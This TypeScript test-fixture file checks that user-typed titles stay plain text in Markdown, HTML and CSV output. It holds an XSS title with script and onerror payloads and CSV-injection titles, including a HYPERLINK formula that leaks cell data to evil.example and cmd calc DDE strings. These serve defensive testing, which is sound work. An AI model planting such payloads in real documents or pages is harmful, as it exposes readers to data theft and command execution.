/**
 * Text that users may type and that must stay text in every output (docs/rules.md, "Who may do
 * what"), and Markdown rendered as a reader's viewer renders it: markdown-it (CommonMark with GFM
 * tables and strikethrough) with raw HTML allowed, as many wikis and agenda tools do, so user text
 * that became markup shows up as real tags.
 */
// markdown-it ships no types; this is the one call the tests make.
const MarkdownIt: new (options: { html: boolean }) => { render(markdown: string): string } = require('markdown-it');

export function renderMarkdown(markdown: string): string {
  return new MarkdownIt({ html: true }).render(markdown);
}

/** Text as markdown-it (and Cairn's HTML) writes it into HTML: no quote marks in the texts here. */
export function asHtmlText(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

/** A title that is markup in Markdown and HTML: a heading, a script, an image, a link and a table break. */
export const HOSTILE_TITLE = '## Hacked <script>alert(1)</script> <img src=x onerror=alert(1)> [link](http://evil.example) | pipe';

/** Rendered HTML that shows the hostile title became markup (a heading of its own starts with "Hacked"). */
export const MARKUP_FROM_USERS = /<script|<img|<a |<h\d>Hacked/;

/**
 * Titles a spreadsheet would run as formulas (OWASP "CSV Injection"), or that start with the
 * apostrophe the export adds, with the cell the CSV export must write for each.
 */
export const FORMULA_TITLES: { title: string; cell: string }[] = [
  { title: '=HYPERLINK("http://evil.example/?"&A1,"x")', cell: '\'=HYPERLINK("http://evil.example/?"&A1,"x")' },
  { title: "@SUM(1+1)*cmd|' /C calc'!A0", cell: "'@SUM(1+1)*cmd|' /C calc'!A0" },
  { title: "-2+3+cmd|' /C calc'!A0", cell: "'-2+3+cmd|' /C calc'!A0" },
  { title: '+plus', cell: "'+plus" },
  { title: '-minus', cell: "'-minus" },
  { title: "'=already quoted", cell: "''=already quoted" },
  { title: "''@two apostrophes", cell: "'''@two apostrophes" },
  { title: "'plain apostrophe", cell: "'plain apostrophe" },
  { title: '-5', cell: '-5' },
];
